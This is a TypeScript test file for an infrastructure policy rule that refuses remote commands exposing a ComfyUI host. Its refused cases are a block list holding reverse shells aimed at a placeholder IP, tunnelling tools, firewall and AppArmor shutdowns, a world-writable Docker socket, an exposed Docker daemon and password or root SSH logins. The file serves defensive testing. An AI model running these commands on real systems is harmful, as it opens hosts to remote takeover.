import { UNKNOWN, type Value } from "../../../policies/core/value";
import { instance } from "../../support/machines";
import { resource } from "../../support/policy";
import { describeRule } from "../../support/rule-table";

const runs = (create: Value) => resource("command:remote:Command", { create });
const refused = (line: string, what: string): [string, ReturnType<typeof runs>, string] => [
  line,
  runs(line),
  `it: create is "${what}"; wanted the gateway as the only way in.`,
];

const passes = (line: string): [string, ReturnType<typeof runs>] => [line, runs(line)];
const each = (what: string, lines: readonly string[]) => lines.map((line) => refused(line, what));

describeRule("command-no-open-way", {
  passes: [
    ["a tunnel towards oneself", runs("ssh -L 8443:127.0.0.1:8443 host")],
    ["ComfyUI on loopback", runs("python main.py --listen 127.0.0.1")],
    ["a firewall that is loaded", runs("nft -f /etc/nftables.conf && systemctl enable nftables")],
    ...[
      "ngrok --version",
      "cloudflared --version",
      "salt --port 1",
      "ssh -A host; ls -R",
      "ssh host && tar -R",
      "ssh -L 127.0.0.1:8443:127.0.0.1:8443 host",
      "ssh -o LogLevel=ERROR host",
      "echo GatewayPorts no",
      "socat - TCP:127.0.0.1:8188",
      "nc -z 127.0.0.1 8188",
      "bash -c '</dev/tcp/127.0.0.1/8188'",
      "jupyter lab --ip 127.0.0.1",
      "tailscale status",
      "caddy version",
      "ssh -v host; w 1",
      "iptables -A INPUT -i lo -j ACCEPT",
      "iptables -A INPUT -s 10.0.0.0/24 -j ACCEPT",
      "iptables -A INPUT -m conntrack --ctstate ESTABLISHED -j ACCEPT",
      "ip6tables -A INPUT -p icmpv6 -j ACCEPT",
      "iptables -A OUTPUT -j ACCEPT",
      "firewall-cmd --set-default-zone=drop",
      "chmod 660 /var/run/docker.sock",
      "iptables -D INPUT -p tcp --dport 22 -j ACCEPT",
      "nft flush set inet filter blocked",
      "haproxy",
      "python3 -m json.tool",
      "ufw enable",
      "iptables -L -n",
      "iptables -P INPUT DROP",
      "iptables -A INPUT -p tcp --dport 443 -j ACCEPT",
      "iptables -A INPUT -p tcp --dport 8188 -j DROP",
      "nft list ruleset",
      "systemctl stop cron; apt-get install ufw",
      "service nftables start",
      "setenforce 1",
      "apparmor_parser -r /etc/apparmor.d/x",
      "sysctl net.ipv4.conf.all.route_localnet=0",
      "ufw allow 443",
      'echo \'{"hosts": ["unix:///var/run/docker.sock"]}\'',
      "python main.py --listen=127.0.0.1 --port 8188",
      "sh -c 'python main.py --listen 127.0.0.1'",
      "python main.py; other --listen 0.0.0.0",
      "PermitRootLogin no",
      "PasswordAuthentication no",
      "PermitEmptyPasswords no",
      "ssh_pwauth: false",
    ].map(passes),
  ],
  refuses: [
    ...each("a tunnel", [
      ...[
        "localtunnel",
        "frpc",
        "pagekite",
        "playit",
        "inlets",
        "sshuttle",
        "gsocket",
        "gs-netcat",
        "boringproxy",
      ],
      ...["ngrok http 8188", "ngrok  tcp 22", "ngrok tls 443", "ngrok start --all", "lt --port 8188"],
      ...[
        "bore local 8188",
        "chisel client h R:8188",
        "chisel server",
        "zrok share public",
        "tailscale serve 8188",
      ],
      ...["tailscale funnel 8188", "devtunnel host", "code tunnel", "loclx tunnel http"],
      ...["cloudflared tunnel --url http://localhost:8188", "cloudflared --no-autoupdate tunnel run"],
      ...[
        "cloudflared access tcp",
        "cloudflared service install x",
        "cloudflared --url http://localhost:8188",
      ],
      ...["cloudflared --hello-world", "ngrok --authtoken x http 8188"],
    ]),
    ...each("a private network of others", [
      ...[
        "tailscale up --authkey $K",
        "tailscale login",
        "wg-quick up wg0",
        "zerotier-cli join 1",
        "netbird up",
      ],
    ]),
    ...each("a shell for others", [
      ...["ttyd bash", "gotty top", "wetty --port 80", "shellinaboxd -t"],
      ...["jupyter lab --ip=0.0.0.0", "jupyter lab --ip '*'", "code-server --bind-addr 0.0.0.0:8080"],
      ...["bash -i >& /dev/tcp/1.2.3.4/9 0>&1", "nc -e /bin/sh 1.2.3.4 9", "ncat --sh-exec sh 1.2.3.4 9"],
    ]),
    ...each("a tunnel over SSH", [
      ...[
        "autossh x",
        "ssh -fN -R 0.0.0.0:8188:localhost:8188 x",
        "ssh x -R 8188:localhost:8188",
        "ssh -NR 1:h:2 x",
      ],
      ...["ssh -o RemoteForward=8188 x", "echo RemoteForward 8188 localhost:8188 >> ~/.ssh/config"],
      ...["ssh -w 0:0 x", "ssh -fNw any x"],
      ...["ssh -g -L 8188:localhost:8188 x", "ssh -Ng x", "ssh -L 0.0.0.0:8188:localhost:8188 x"],
      ...["ssh -NL *:8188:localhost:8188 x", "ssh -D '[::]:1080' x", 'ssh -L"*:8188:localhost:8188" x'],
      ...["echo GatewayPorts yes >> /etc/ssh/sshd_config", "sshd -o gatewayports=clientspecified"],
    ]),
    ...each("a forwarder", [
      ...[
        "socat TCP-LISTEN:8188,fork TCP:127.0.0.1:8188",
        "socat -d OPENSSL-LISTEN:443 x",
        "socat tcp-l:8188,fork tcp:x",
        "socat tcp4-listen:1 x",
      ],
      ...[
        "nc -lk 8188",
        "ncat --listen 8188",
        "netcat -kl 8188",
        "rinetd -c x",
        "redir -s x",
        "haproxy -f x",
      ],
      ...["simpleproxy -L 8188"],
    ]),
    ...each("a server of files", [
      ...[
        "python3 -m http.server 80",
        "python -u -m SimpleHTTPServer",
        "cd /data; python3.11 -m http.server",
        "python3 -mhttp.server",
        "busybox httpd -p 80",
        "php -S 0.0.0.0:80",
        "caddy file-server",
        "caddy reverse-proxy --from :80 --to :8188",
      ],
    ]),
    ...each("the engine for everybody", [
      ...["chmod 666 /var/run/docker.sock", "chmod 0777 /run/docker.sock", "chmod a+rw /var/run/docker.sock"],
      "chmod o+w /run/docker.sock",
    ]),
    ...each("a firewall that is turned off", [
      ...["ufw --force disable", "ufw disable", "ufw reset", "ufw default allow incoming"],
      ...[
        "iptables -t filter -F",
        "ip6tables --flush",
        "iptables -t nat -X",
        "iptables -D DOCKER-USER -j DROP",
        "ip6tables --delete INPUT -p tcp -j REJECT",
      ],
      ...[
        "iptables -P INPUT ACCEPT",
        "ip6tables --policy FORWARD ACCEPT",
        "iptables -w -P DOCKER-USER ACCEPT",
      ],
      ...[
        "iptables -I INPUT -j ACCEPT",
        "iptables -A INPUT -p tcp --jump ACCEPT",
        "ip6tables -w -A DOCKER-USER -j ACCEPT",
      ],
      ...[
        "nft flush chain inet filter input",
        "firewall-cmd --set-default-zone=trusted",
        "systemctl disable --now apparmor",
      ],
      ...["nft flush ruleset", "nft flush table inet pod", "nft delete table inet pod"],
      ...["systemctl stop nftables", "systemctl --now disable ufw", "systemctl mask --now firewalld"],
      ...["systemctl stop cron iptables", "service ufw stop", "service iptables stop", "setenforce 0"],
      ...["apparmor_parser -R x", "aa-disable x", "aa-complain x", "aa-teardown"],
    ]),
    ...each("port forwarding to loopback", [
      ...["sysctl net.ipv4.conf.all.route_localnet=1", "sysctl -w net.ipv4.conf.eth0.route_localnet = 1"],
      ...["iptables -t nat -A PREROUTING -p tcp --dport 80 -j DNAT --to 127.0.0.1:8188"],
      ...[
        "iptables -t nat -A PREROUTING -p tcp -j REDIRECT --to-ports 8188",
        "nft add rule nat p tcp redirect to :8188",
      ],
    ]),
    ...each("ComfyUI's port in the firewall", [
      ...["ufw allow 8188", "ufw allow from any to any port 8188", "ufw route allow 8188/tcp"],
      ...["firewall-cmd --add-port=8188/tcp", "iptables -I INPUT -p tcp --dport 8188 -j ACCEPT"],
      ...["nft add rule inet filter input tcp dport 8188 accept"],
    ]),
    ...each("the engine on the network", [
      'echo \'{"hosts": ["tcp://0.0.0.0:2375"]}\' > /etc/docker/daemon.json',
      'echo \'{"hosts" : ["unix:///run/d.sock",\n"tcp://[::]:2375"]}\'',
      "hosts: [fd://, tcp://0.0.0.0:2375]",
    ]),
    ...each("ComfyUI on every interface", [
      ...[
        "python main.py --listen 0.0.0.0",
        "python main.py --listen",
        "python main.py --port 1 --listen=::",
      ],
      ...["python main.py --listen 127.0.0.10", "comfy launch -- --listen 0.0.0.0"],
    ]),
    ...each("root or a password over SSH", [
      ...["echo PasswordAuthentication yes >> /etc/ssh/sshd_config", "sshd -o passwordauthentication=yes"],
      ...["KbdInteractiveAuthentication yes", "PermitRootLogin yes", "permitemptypasswords yes"],
      ...["#cloud-config\nssh_pwauth: true", 'ssh_pwauth: "yes"', "ssh_pwauth:yes"],
    ]),
    [
      "two ways at once, each named once",
      runs("ufw disable\nufw reset\nngrok http 8188"),
      [
        'it: create is "a tunnel"; wanted the gateway as the only way in.',
        'it: create is "a firewall that is turned off"; wanted the gateway as the only way in.',
      ],
    ],
    [
      "in user data",
      instance({ userData: "#cloud-config\nruncmd:\n  - ufw disable\n" }),
      'it: userData is "a firewall that is turned off"; wanted the gateway as the only way in.',
    ],
  ],
  unknown: [["the command", runs(UNKNOWN), "it: create"]],
});
